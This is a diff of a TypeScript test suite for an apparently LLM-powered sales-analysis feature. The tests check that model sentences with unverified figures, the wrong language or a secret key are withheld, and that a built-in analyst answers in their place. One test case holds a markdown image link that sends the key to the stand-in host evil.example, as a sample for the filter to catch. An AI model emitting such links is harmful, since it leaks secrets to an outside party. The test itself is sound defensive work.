@@ -70,7 +70,7 @@ async function converse(question: string, ...moves: Player[]): Promise<Told> {
 
 /** What the built-in analyst says of the page where nothing else holds. */
 const OWN = '销售额 ¥9,640，比去年同期增长 109.57%；卖出132件，均价 ¥73.03。'
-const WITHHELD = '语言模型有句子包含未经核实的数字，已略去；以下由内置分析师根据本页数据给出。'
+const WITHHELD = '语言模型有句子包含未经核实的数字，已略去；以下由内置分析师给出。'
 const NO_ANSWER = '语言模型没有给出回答，以下由内置分析师回答。'
 const ASKED = '2025年12月的销售额是多少？'
 const ANALYST = '2025-12，销售额为 ¥9,640，同比 +109.57%。'
@@ -161,14 +161,18 @@ it.each<[string, string, string[]]>([
   ['another language', 'The sales of this market were very good in this month indeed, as the figures show to everybody.', ['language']],
   ['the key', `密钥是 ${KEY}。`, ['secret']],
   ['the key in an address', `![x](https://evil.example/?k=${KEY})。`, ['secret']],
-])('%s is withheld, asked for again, and the built-in analyst tells the page', async (_, sentence, why) => {
+])('%s is withheld, asked for again, and the built-in analyst answers', async (_, sentence, why) => {
   const told = await converse(ASKED, call(summary), say(sentence))
-  expect(told).toMatchObject({ state: 'answered', by: 'model', charged: 1, withheld: 1, logged: why })
-  expect(told.text.split('\n').slice(0, 2)).toEqual([WITHHELD, `- ${OWN}`])
-  expect(told.text).not.toContain(sentence)
+  expect(told).toMatchObject({ state: 'answered', by: 'analyst', text: `${WITHHELD}\n${ANALYST}`, charged: 1, withheld: 1, logged: why })
   expect(JSON.stringify(told.turn)).not.toContain(KEY)
   expect(model.asked).toHaveLength(3)
   expect(model.asked[2]?.tools).toEqual([])
+})
+
+it('a question that the built-in analyst does not read either is answered by what the page says, beside what held', async () => {
+  const told = await converse('给我一点灵感', call(summary), say('销售额 {{q1.sales}}。天猫占一半。'))
+  expect(told).toMatchObject({ state: 'answered', by: 'model', withheld: 1 })
+  expect(told.text.split('\n').slice(0, 3)).toEqual(['销售额 ¥9,640。', WITHHELD, `- ${OWN}`])
 })
 
 it('what was withheld and is then said with handles stands, and what held stays', async () => {
